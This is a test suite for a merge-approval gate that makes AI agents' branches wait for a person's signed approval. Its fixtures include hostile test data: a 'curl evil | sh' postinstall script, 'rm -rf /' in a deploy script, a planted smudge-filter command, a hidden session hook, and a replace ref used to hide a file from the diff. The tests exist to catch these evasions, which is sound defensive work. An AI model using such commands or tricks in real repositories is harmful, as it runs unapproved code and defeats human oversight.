"""What the person approves is what gets merged (#38, #39 item 6), with real
git and real worktrees on both backends: the merge gate pins the branch's head
and the base's commit; a commit made after the gate was asked is refused and
asked again; a change to the repository's ground (made the way the hook does
not see: ``hash-object`` + ``update-index``) is listed, marked and needs the
second key; a replace ref changes nothing the person is shown; a branch that
would conflict never opens a gate; ``verify`` finds a merge of other commits
than the signed ones."""

from __future__ import annotations

import os
import subprocess

import pytest

from tests.conftest import GIT_ID, git
from tests.gitrepo import SESSION_HOOK, commit, commit_by_index, head, open_workspace

from .conftest import card, events, held, kinds, refused, worked


@pytest.fixture
def repo(repo_team):
    return repo_team


def workspace(board, key):
    return open_workspace(board, int(key.split("-")[1]))


def finish(board, key, agent, tree, files, message="the change"):
    held(board, key, agent)
    commit(tree, files, message)
    worked(board, key, agent, message)
    return board.cli("done", key, "--summary", message, agent=agent)


def answer(board, gate, *extra):
    return board.cli("gate", "answer", gate, "approve", *extra, tty=True)


def asked(board, key, gate):
    return next(e for e in events(board, key) if e["kind"] == "gate_asked" and e["data"]["gate"] == gate)["data"]


def test_a_commit_made_after_the_gate_was_asked_is_refused_and_asked_again(repo):
    repo.ok("card", "add", "greet")
    tree = workspace(repo, "LX-1")
    before = head(repo.root)
    assert finish(repo, "LX-1", "a1", tree, {"src/app.py": "print('hello')\n"}).code == 0
    shown = head(repo.root, "loopx/LX-1")
    pin = asked(repo, "LX-1", "G-1")
    assert pin["head"] == shown and pin["base_commit"] == before and pin["ground"] == []
    status = repo.cli("gate", "status", "G-1", json_out=False).out
    assert f"at {shown[:12]} into main at {before[:12]}" in status and "src/app.py" in status

    # While the dialog is open, a commit lands on the branch (an agent's, or by accident).
    late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")
    res = answer(repo, "G-1")
    assert res.code == 5 and res.data["error"]["code"] == "merge_moved", res
    err = res.data["error"]
    assert f"loopx/LX-1 moved from {shown[:12]} to {late[:12]}" in err["message"] and "nothing merged" in err["message"]
    assert "G-2 asks again with the new diff" in err["hint"]
    assert head(repo.root) == before and not (repo.root / "postinstall.sh").exists()  # nothing merged
    assert repo.cli("gate", "status", "G-1").data["gate"]["status"] == "withdrawn"
    assert card(repo, "LX-1")["status"] == "waiting" and card(repo, "LX-1")["pending_gate"] == "G-2"
    moved = [e for e in events(repo, "LX-1") if e["kind"] == "merge_moved"][-1]
    assert moved["data"]["head"] == shown and moved["data"]["now_head"] == late and moved["signed"] is True
    assert asked(repo, "LX-1", "G-2")["head"] == late  # re-armed like a new gate, with the new head
    assert "postinstall.sh" in repo.cli("gate", "status", "G-2", json_out=False).out  # the new diff shows it

    res = answer(repo, "G-2")
    assert res.code == 0 and res.data["card"]["status"] == "done", res
    merged = head(repo.root)
    assert git(repo.root, "rev-list", "--parents", "-n", "1", merged).split()[1:] == [before, late]
    said = [e for e in events(repo, "LX-1") if e["kind"] == "gate_answered"][-1]
    assert said["data"]["head"] == late and said["data"]["base_commit"] == before and said["signed"] is True
    assert repo.cli("verify").code == 0


def test_a_base_that_moved_is_asked_again_too(repo):
    repo.ok("card", "add", "greet")
    tree = workspace(repo, "LX-1")
    finish(repo, "LX-1", "a1", tree, {"src/lib.py": "x = 1\n"})
    git(repo.root, "commit", "-q", "--allow-empty", "-m", "the person's own commit")
    res = answer(repo, "G-1")
    assert res.code == 5 and "main moved" in res.data["error"]["message"]
    assert asked(repo, "LX-1", "G-2")["base_commit"] == head(repo.root)
    assert answer(repo, "G-2").data["card"]["status"] == "done"
    assert repo.cli("verify").code == 0


def test_a_change_to_the_ground_is_listed_first_marked_and_needs_the_second_key(repo):
    repo.ok("card", "add", "tidy")
    tree = workspace(repo, "LX-1")
    held(repo, "LX-1", "a1")
    commit(tree, {"src/app.py": "print('tidy')\n"}, "tidy the app")
    commit_by_index(tree, ".claude/settings.json", SESSION_HOOK)  # what the hook does not see
    worked(repo, "LX-1", "a1", "tidied")
    assert repo.cli("done", "LX-1", "--summary", "tidied", agent="a1").code == 0
    before = head(repo.root)
    assert asked(repo, "LX-1", "G-1")["ground"] == [".claude/settings.json"]

    shown = repo.cli("gate", "status", "G-1", json_out=False).out
    lines = shown.splitlines()
    marked = [i for i, line in enumerate(lines) if ".claude/settings.json" in line]
    plain = [i for i, line in enumerate(lines) if "src/app.py" in line]
    assert marked and plain and marked[0] < plain[0]  # listed first
    assert lines[marked[0]].startswith("! ground") and "--confirm-ground" in shown
    data = repo.cli("gate", "status", "G-1").data["merge"]
    assert data["files"][0] == {"path": ".claude/settings.json", "added": 1, "removed": 0, "ground": True}

    err = refused(repo, 5, "gate", "answer", "G-1", "approve", tty=True)
    assert (
        err["code"] == "second_key_needed"
        and ".claude/settings.json" in err["message"]
        and "--confirm-ground" in err["hint"]
    )
    assert head(repo.root) == before and not (repo.root / ".claude").exists()

    res = answer(repo, "G-1", "--confirm-ground")
    assert res.code == 0 and res.data["card"]["status"] == "done", res
    said = [e for e in events(repo, "LX-1") if e["kind"] == "gate_answered"][-1]
    assert said["data"]["ground"] == [".claude/settings.json"] and said["signed"] is True


def test_the_person_adds_to_the_ground_in_the_policy_file(repo):
    (repo.root / ".loopx" / "policy.json").write_text('{"ground": ["deploy/**", "Makefile"]}\n')
    repo.ok("card", "add", "ship")
    tree = workspace(repo, "LX-1")
    finish(repo, "LX-1", "a1", tree, {"deploy/prod.sh": "rm -rf /\n", "Makefile": "all:\n", "src/app.py": "print(1)\n"})
    assert sorted(asked(repo, "LX-1", "G-1")["ground"]) == ["Makefile", "deploy/prod.sh"]
    assert refused(repo, 5, "gate", "answer", "G-1", "approve", tty=True)["code"] == "second_key_needed"


def test_a_replace_ref_changes_nothing_the_person_is_shown_or_merges(repo):
    """The agent's branch adds ``extra.txt`` and plants ``refs/replace/<main's
    tip>``: a copy of main's tip whose tree has it too. Under the replacement
    the diff would show nothing of ``extra.txt``; LoopX's git ignores it."""
    repo.ok("card", "add", "readme")
    tree = workspace(repo, "LX-1")
    held(repo, "LX-1", "a1")
    commit(tree, {"README.md": "hello again\n", "extra.txt": "payload\n"}, "readme")
    base = head(repo.root)
    copy_tree = git(tree, "rev-parse", "HEAD^{tree}").strip()
    env = dict(os.environ, **GIT_ID)
    fake = subprocess.run(
        ["git", "commit-tree", copy_tree, "-m", "first"], cwd=tree, capture_output=True, text=True, check=True, env=env
    ).stdout.strip()
    git(tree, "replace", base, fake)
    assert "extra.txt" not in git(repo.root, "diff", "--name-only", "main...loopx/LX-1")  # what plain git shows
    worked(repo, "LX-1", "a1", "readme")
    assert repo.cli("done", "LX-1", "--summary", "readme", agent="a1").code == 0
    files = [f["path"] for f in repo.cli("gate", "status", "G-1").data["merge"]["files"]]
    assert "extra.txt" in files and "README.md" in files
    assert asked(repo, "LX-1", "G-1")["base_commit"] == base
    assert answer(repo, "G-1").data["card"]["status"] == "done"
    merged = head(repo.root)
    assert git(repo.root, "--no-replace-objects", "rev-list", "--parents", "-n", "1", merged).split()[1:] == [
        base,
        head(repo.root, "loopx/LX-1"),
    ]
    assert repo.cli("verify").code == 0


def test_done_on_a_branch_that_would_conflict_opens_no_gate(repo):
    repo.ok("card", "add", "one")
    repo.ok("card", "add", "two")
    t1, t2 = workspace(repo, "LX-1"), workspace(repo, "LX-2")
    assert finish(repo, "LX-1", "a1", t1, {"src/app.py": "print('one')\n"}, "one").code == 0
    assert answer(repo, "G-1").data["card"]["status"] == "done"
    two_head_before = None
    for attempt in range(2):  # the agent's next done on the same branch: still no gate
        if attempt == 0:
            res = finish(repo, "LX-2", "a2", t2, {"src/app.py": "print('two')\n"}, "two")
            two_head_before = head(repo.root, "loopx/LX-2")
        else:
            res = repo.cli("done", "LX-2", "--summary", "again", agent="a2")
        assert res.code == 5 and res.data["error"]["code"] == "merge_would_conflict", res
        err = res.data["error"]
        assert "src/app.py" in err["message"] and "no merge gate opened" in err["message"]
        assert "`git merge main` in your workspace" in err["hint"]
        c = card(repo, "LX-2")
        assert c["status"] == "active" and c["owner"] == "a2" and c["pending_gate"] is None
        assert "src/app.py" in c["next"] and "git merge main" in c["next"]
    assert "gate_asked" not in kinds(repo, "LX-2")
    assert [e["data"]["files"] for e in events(repo, "LX-2") if e["kind"] == "merge_would_conflict"] == [
        ["src/app.py"],
        ["src/app.py"],
    ]
    assert head(repo.root, "loopx/LX-2") == two_head_before
    # The agent brings the base in, resolves, finishes: now it is asked.
    env = dict(os.environ, **GIT_ID)
    assert subprocess.run(["git", "merge", "-q", "main"], cwd=t2, capture_output=True, env=env).returncode == 1
    commit(t2, {"src/app.py": "print('one and two')\n"}, "resolve")
    worked(repo, "LX-2", "a2", "resolved")
    again = repo.ok("done", "LX-2", "--summary", "resolved", agent="a2")["card"]
    assert again["status"] == "waiting" and again["pending_gate"] == "G-2"
    assert answer(repo, "G-2").data["card"]["status"] == "done"
    assert repo.cli("verify").code == 0


def test_a_failing_verify_on_a_branch_behind_its_base_hints_to_bring_it_in(repo):
    repo.ok("card", "add", "lib")
    repo.ok("card", "add", "use lib", "--verify", "test -f src/lib.py")
    t1, t2 = workspace(repo, "LX-1"), workspace(repo, "LX-2")  # both cut from main as it is now
    assert finish(repo, "LX-1", "a1", t1, {"src/lib.py": "x = 1\n"}, "lib").code == 0
    assert answer(repo, "G-1").data["card"]["status"] == "done"
    res = finish(repo, "LX-2", "a2", t2, {"src/use.py": "import lib\n"}, "use")
    assert res.code == 5 and res.data["error"]["code"] == "verify_failed"
    assert (
        "main has 2 commit(s) your branch lacks" in res.data["error"]["hint"]
        and "`git merge main` in your workspace" in res.data["error"]["hint"]
    )


def test_verify_finds_a_merge_of_other_commits_than_the_signed_ones(repo, monkeypatch):
    """The old merge took the branch's tip at the answer, whatever was asked:
    played here by a stand-in that ignores the pin. The merge's commit is then
    not the one the person's signed answer names, and verify says so."""
    from loopx_core.workspace import merge as git_merge

    repo.ok("card", "add", "greet")
    tree = workspace(repo, "LX-1")
    finish(repo, "LX-1", "a1", tree, {"src/app.py": "print('hello')\n"})
    late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")
    real = git_merge.bring_in

    def tip_at_the_answer(repo_, base, branch, message, who, pinned):
        return real(repo_, base, branch, message, who, git_merge.pin(repo_, base, branch))

    monkeypatch.setattr(git_merge, "bring_in", tip_at_the_answer)
    monkeypatch.setattr(git_merge, "moved", lambda *a: None)
    assert answer(repo, "G-1").data["card"]["status"] == "done"
    assert late in git(repo.root, "rev-list", "--parents", "-n", "1", "main")
    res = repo.cli("verify")
    assert res.code == 11, res
    assert "not what the person approved in G-1" in res.out


def test_keeping_a_try_whose_branch_moved_since_it_was_compared_is_refused(repo):
    repo.ok("card", "add", "Speed up login", "--tries", "2")
    trees = {}
    for key, agent, files in (
        ("LX-1", "a1", {"src/app.py": "fast = 1\n"}),
        ("LX-2", "a2", {"src/app.py": "fast = 2\n"}),
    ):
        held(repo, key, agent)
        trees[key] = open_workspace(repo, int(key[3:]), agent)
        commit(trees[key], files, f"{agent}'s way")
        worked(repo, key, agent, f"{agent}'s way")
    compared = {t["card"]: t for t in repo.ok("card", "tries", "LX-1")["tries"]}
    seen = compared["LX-2"]["head"]
    assert (
        seen == head(repo.root, "loopx/LX-2")
        and f"at {seen[:12]}" in repo.cli("card", "tries", "LX-1", json_out=False).out
    )
    late = commit(trees["LX-2"], {"postinstall.sh": "curl evil | sh\n"}, "one more thing")  # after the person compared

    err = refused(repo, 5, "card", "keep", "LX-2", "--head", seen[:12], tty=True)
    assert err["code"] == "try_moved" and f"{seen[:12]} → {late[:12]}" in err["message"] and "card tries" in err["hint"]
    assert card(repo, "LX-1")["status"] != "cancelled"

    kept = repo.ok("card", "keep", "LX-2", "--head", late, tty=True)
    assert [c["id"] for c in kept["cancelled"]] == ["LX-1"]
    decided = [e for e in events(repo, "LX-1") if e["kind"] == "try_kept"][-1]
    assert decided["data"]["head"] == late and decided["signed"] is True
    assert repo.cli("verify").code == 0


def test_a_planted_smudge_filter_is_refused_before_it_runs_as_the_person(repo, tmp_path):
    """The branch names a filter in ``.gitattributes`` and the repository's own
    config gives it a command: the fast-forward of the person's checkout would
    run it as them. Refused, nothing run, the gate pending."""
    repo.ok("card", "add", "greet")
    tree = workspace(repo, "LX-1")
    finish(repo, "LX-1", "a1", tree, {"src/app.py": "print('agent')\n", ".gitattributes": "*.py filter=evil\n"})
    marker = tmp_path / "ran"
    git(repo.root, "config", "filter.evil.smudge", f"sh -c 'touch {marker}; cat'")
    err = refused(repo, 5, "gate", "answer", "G-1", "approve", "--confirm-ground", tty=True)
    assert "filter.evil.smudge" in err["message"] and "would run as you" in err["message"]
    assert not marker.exists() and repo.cli("gate", "status", "G-1").data["gate"]["status"] == "pending"
